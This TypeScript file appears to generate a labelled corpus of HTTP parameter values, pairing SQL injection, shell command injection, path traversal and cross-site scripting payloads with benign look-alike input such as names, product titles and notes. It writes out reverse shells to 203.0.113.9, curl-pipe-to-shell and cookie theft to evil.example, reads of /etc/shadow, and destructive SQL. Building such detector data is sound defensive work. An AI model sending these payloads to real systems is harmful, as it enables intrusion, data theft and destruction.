import { email, lookAlike, phone, type Dice } from './corpus.ts';

/**
 * What comes in the parameters of HTTP APIs: attacks, made from grammars of the techniques that cheat
 * sheets and scanners publish (tautologies, unions, stacked and timed questions, errors; separators,
 * substitutions, gaps without blanks; elements, handlers, schemes), and what people write there.
 */

const number = (dice: Dice, most = 9999): string => String(Math.floor(dice.next() * most) + 1);
const word = (dice: Dice): string =>
  dice.one(['a', 'x', 'admin', 'test', 'abc', 'id', 'user', 'name', 'q1', 'foo']);

const anyCase = (dice: Dice, text: string): string => {
  const style = dice.next();
  if (style < 0.5) return text;
  if (style < 0.75) return text.toUpperCase();
  return Array.from(text, (char) => (dice.next() < 0.5 ? char.toUpperCase() : char)).join('');
};

/** Between two words of SQL; `_` in a question stands for one of these, and `~` for itself. */
const gap = (dice: Dice): string =>
  dice.next() < 0.6 ? ' ' : dice.one(['/**/', '  ', '\t', '\n', '/*x*/', ' /**/ ', '--x\n']);

const comment = (dice: Dice): string => dice.one(['-- ', '--', '#', '/*', '-- -', ';--', '']);
const breakOut = (dice: Dice): string => dice.one(["'", '"', "')", '")', "'))", "';", "' "]);

const tautology = (dice: Dice): string => {
  const digit = number(dice, 99);
  const name = word(dice);
  return dice.one([
    `' or '${name}'='${name}`,
    `" or "${name}"="${name}`,
    `') or ('${name}'='${name}`,
    `' or ${digit}=${digit}${comment(dice)}`,
    `' and ${digit}=${number(dice, 99)}${comment(dice)}`,
    `${digit} or ${digit}=${digit}`,
    `' || '${name}'='${name}`,
    `' or ${name} like '%`,
    `' or ${name} is not null${comment(dice)}`,
    `' or not ${digit}=${number(dice, 99)}${comment(dice)}`,
    `' and substr(version(),1,1)='${digit}`,
    `' and ascii(substring((select_password_from_users_limit_1),1,1))>${digit}${comment(dice)}`,
  ]);
};

const columns = (dice: Dice): string =>
  Array.from({ length: 1 + Math.floor(dice.next() * 5) }, () =>
    dice.one(['null', number(dice, 9), "'a'", 'username', 'password', 'version()', '@@version']),
  ).join(',');

const table = (dice: Dice): string =>
  dice.one(['users', 'information~schema.tables', 'sysobjects', 'sqlite~master', 'mysql.user']);

const questions: readonly ((dice: Dice) => string)[] = [
  tautology,
  tautology,
  (dice) =>
    `${number(dice)}${breakOut(dice)}_union_${dice.one(['', 'all_', 'distinct_'])}select_${columns(dice)}_from_${table(dice)}${comment(dice)}`,
  (dice) => `-${number(dice)} union_select_${columns(dice)}${comment(dice)}`,
  (dice) =>
    `${breakOut(dice)};${dice.one(['drop_table_users', 'delete_from_users', "insert_into_users_values(1,'a')", 'update_users_set_role=1', "exec_xp~cmdshell('dir')", 'shutdown', 'alter_table_users_add_x_int', 'truncate_table_log', 'declare_@x_int', 'create_user_x'])}${comment(dice)}`,
  (dice) =>
    `${breakOut(dice)}_and_${dice.one(['sleep(5)', 'pg~sleep(5)', 'benchmark(9999999,md5(1))', "dbms~pipe.receive~message('a',5)", 'randomblob(1000000000)', 'if(1=1,sleep(5),0)'])}${comment(dice)}`,
  (dice) => `${number(dice)};_waitfor_delay_'0:0:5'${comment(dice)}`,
  (dice) =>
    `${breakOut(dice)}_and_${dice.one(['extractvalue(1,concat(0x7e,version()))', 'updatexml(1,concat(0x7e,user()),1)', '1=convert(int,(select_@@version))', '1=cast((select_version())_as_int)', '(select_count(*)_from_information~schema.tables)>0'])}${comment(dice)}`,
  (dice) => `${breakOut(dice)}_order_by_${number(dice, 20)}${dice.one(['-- ', '#', '/*', '-- -'])}`,
  (dice) => `${breakOut(dice)}_into_outfile_'/tmp/${word(dice)}.php'${comment(dice)}`,
  (dice) => `${word(dice)}${dice.one(["'", '"', "')"])}${dice.one(['-- ', '#', '/*', '--'])}`,
  (dice) => `${breakOut(dice)}_group_by_${word(dice)}_having_1=1${comment(dice)}`,
  (dice) => `${number(dice)}_and_(select_count(*)_from_${table(dice)})>0`,
];

export const sqlAttack = (dice: Dice): string =>
  anyCase(dice, dice.one(questions)(dice))
    .replaceAll('_', () => gap(dice))
    .replaceAll('~', '_');

const programs = ['cat', 'id', 'whoami', 'ls', 'uname', 'wget', 'curl', 'nc', 'ping', 'bash', 'sh'];
const programArguments: Readonly<Record<string, readonly string[]>> = {
  cat: [' /etc/passwd', ' /etc/shadow', ' ../../../etc/passwd'],
  ls: [' -la', ' /', ' -al /home'],
  uname: [' -a'],
  wget: [' http://evil.example/x.sh', ' -O- http://evil.example/x'],
  curl: [' http://evil.example/x.sh', ' -s http://evil.example|sh'],
  nc: [' -e /bin/sh 203.0.113.9 4444', ' -lvp 4444'],
  ping: [' -c 10 127.0.0.1', ' -n 10 127.0.0.1'],
  bash: [' -i >& /dev/tcp/203.0.113.9/4444 0>&1', " -c 'id'"],
  sh: [" -c 'id'", ' /tmp/x.sh'],
};

const program = (dice: Dice): string => {
  const name = dice.one(programs);
  const given = programArguments[name];
  const path = dice.next() < 0.2 ? dice.one(['/bin/', '/usr/bin/']) : '';
  return path + name + (given === undefined ? '' : dice.one(given));
};

/** The same without a blank, or with a name that a shell puts together. */
const hiddenProgram = (dice: Dice): string => {
  const plain = program(dice);
  return dice.one([
    plain.replaceAll(' ', '${IFS}'),
    plain.replaceAll(' ', '$IFS$9'),
    plain.replace(/[a-z]{2}/, (two) => `${two[0]}''${two[1]}`),
    plain.replace(/[a-z]{2}/, (two) => `${two[0]}\\${two[1]}`),
    plain.replace(' ', '<'),
    plain.includes(' ') ? `{${plain.replaceAll(' ', ',')}}` : plain,
  ]);
};

export const commandAttack = (dice: Dice): string => {
  const what = dice.next() < 0.8 ? program(dice) : hiddenProgram(dice);
  const before = dice.one(['', word(dice), '127.0.0.1', `${word(dice)}.txt`, '8.8.8.8']);
  return dice.one([
    `${before};${what}`,
    `${before}; ${what}`,
    `${before}|${what}`,
    `${before} | ${what}`,
    `${before}&&${what}`,
    `${before} && ${what} #`,
    `${before}||${what}`,
    `${before}\n${what}`,
    `${before}\`${what}\``,
    `${before}$(${what})`,
    `${before}" ; ${what} ; "`,
    `${before}' && ${what} && '`,
    '../'.repeat(2 + Math.floor(dice.next() * 6)) + dice.one(['etc/passwd', 'windows/win.ini']),
    '..\\'.repeat(3) + 'windows\\system32\\drivers\\etc\\hosts',
    '..%2f'.repeat(4) + 'etc%2fpasswd',
  ]);
};

const script = (dice: Dice): string =>
  dice.one([
    'alert(1)',
    "alert('x')",
    'alert(document.cookie)',
    'prompt(1)',
    'confirm`1`',
    "fetch('//evil.example/'+document.cookie)",
    "eval(atob('YWxlcnQoMSk='))",
    'top.location=1',
  ]);
const handler = (dice: Dice): string =>
  dice.one([
    'onerror',
    'onload',
    'onclick',
    'onmouseover',
    'onfocus',
    'ontoggle',
    'onpointerenter',
  ]);
const element = (dice: Dice): string =>
  dice.one([
    'img src=x',
    'svg',
    'body',
    'input autofocus',
    'details open',
    'video src=x',
    'a href=#',
    'div',
  ]);
const around = (dice: Dice): string => dice.one(['', '">', "'>", '</title>', '"/>', '-->']);

const markup: readonly ((dice: Dice) => string)[] = [
  (dice) => `${around(dice)}<script>${script(dice)}</script>`,
  (dice) => `${around(dice)}<script src=//evil.example/x.js></script>`,
  (dice) => `${around(dice)}<${element(dice)} ${handler(dice)}=${script(dice)}>`,
  (dice) => `${around(dice)}<${element(dice).split(' ')[0]}/${handler(dice)}=${script(dice)}>`,
  (dice) => `${around(dice)}<${element(dice)} ${handler(dice)} = "${script(dice)}">`,
  (dice) =>
    `${dice.one(['"', "'"])} ${handler(dice)}=${script(dice)} ${dice.one(['x="', "x='", '//'])}`,
  (dice) => `javascript:${script(dice)}`,
  (dice) =>
    `${dice.one(['JaVaScRiPt:', 'java\tscript:', 'vbscript:', ' javascript:'])}${script(dice)}`,
  (dice) => `<a href="&#106;avascript:${script(dice)}">x</a>`,
  (dice) => `data:text/html,<script>${script(dice)}</script>`,
  (dice) => `<iframe src="javascript:${script(dice)}">`,
  (dice) => `${around(dice)}<svg><animate ${handler(dice)}=${script(dice)}>`,
  (dice) => `{{constructor.constructor('${script(dice)}')()}}`,
  (dice) => `';${script(dice)};//`,
];

export const xssAttack = (dice: Dice): string => {
  const text = dice.one(markup)(dice);
  return dice.next() < 0.2 ? text.replace(/<(\w+)/, (all) => anyCase(dice, all)) : text;
};

const firstNames = ['Ann', "D'Arcy", 'José', 'Li', 'Siobhán', "Ta'Nisha", 'Order', 'Select'];
const lastNames = ["O'Brien", 'Müller', 'van der Berg', 'Null', 'Smith-Jones', "D'Angelo", 'Drop'];
const wares = [
  'shoes & socks',
  'rock and roll t-shirt',
  '5" nails; 100 pack',
  'cat food or dog food',
  "men's jacket (blue)",
  'table & chairs',
  'union jack flag',
  'select wines',
  'drop shipping guide',
  'script font',
  'image frame 20x30',
  'C# in depth',
  'ping pong table',
  'cat & dog | pets',
  'sleep mask',
  'online course: SQL for beginners',
  'head & shoulders',
  'order by mail',
  '"exact phrase" -draft',
  'price < 20 and size > 40',
  'ls swap kit',
  'find -- a novel',
  'dog bed; cat tree',
  'fish tank | cat food',
  'head; shoulders; knees',
  'perl & gold; ruby ring',
];
const notes = [
  "Please don't ring; the baby's asleep.",
  "It's 5 o'clock and we'll or won't be there = who knows.",
  'Leave it with the neighbour (no. 12) or in the shed.',
  'Call me back & bring the id card; thanks!',
  "My daughter's username is 'ann' and mine is 'bob'.",
  'Insert the card; update the app; delete the old one.',
  'Select the union that suits you, then drop me a line.',
  'I like cats, dogs or birds. Which is cheaper?',
  'Meet at 10:30 -- by the fountain',
  'Total: 3 < 4 and 5 > 2, so it is fine.',
  'Where is my order? I paid $20 (twice).',
  'See page 3/4; the table is wrong.',
  'Echo & the Bunnymen; Head; Cat Power',
  "She said: 'Wait for the delay' and left.",
];

/** What people write into the fields of a form or a search. */
export const parameter = (dice: Dice): string =>
  dice.one([
    (one: Dice) => `${one.one(firstNames)} ${one.one(lastNames)}`,
    (one: Dice) => one.one(wares),
    (one: Dice) => `${one.one(wares)} ${number(one, 500)}`,
    (one: Dice) => one.one(notes),
    (one: Dice) => `${one.one(notes)} ${one.one(firstNames)} ${one.one(lastNames)}`,
    email,
    phone,
    lookAlike,
    (one: Dice) => `/orders/${number(one)}/items?sort=-price&page=${number(one, 9)}`,
    (one: Dice) => `https://shop.example/p/${number(one)}?ref=mail&utm_source=news#top`,
    (one: Dice) => `${number(one, 200)} High Street, Flat ${number(one, 9)}/${one.one(['A', 'B'])}`,
    (one: Dice) => `report-${number(one)}.final.pdf`,
    (one: Dice) => `{"size":${number(one, 50)},"colour":"blue"}`,
  ])(dice);
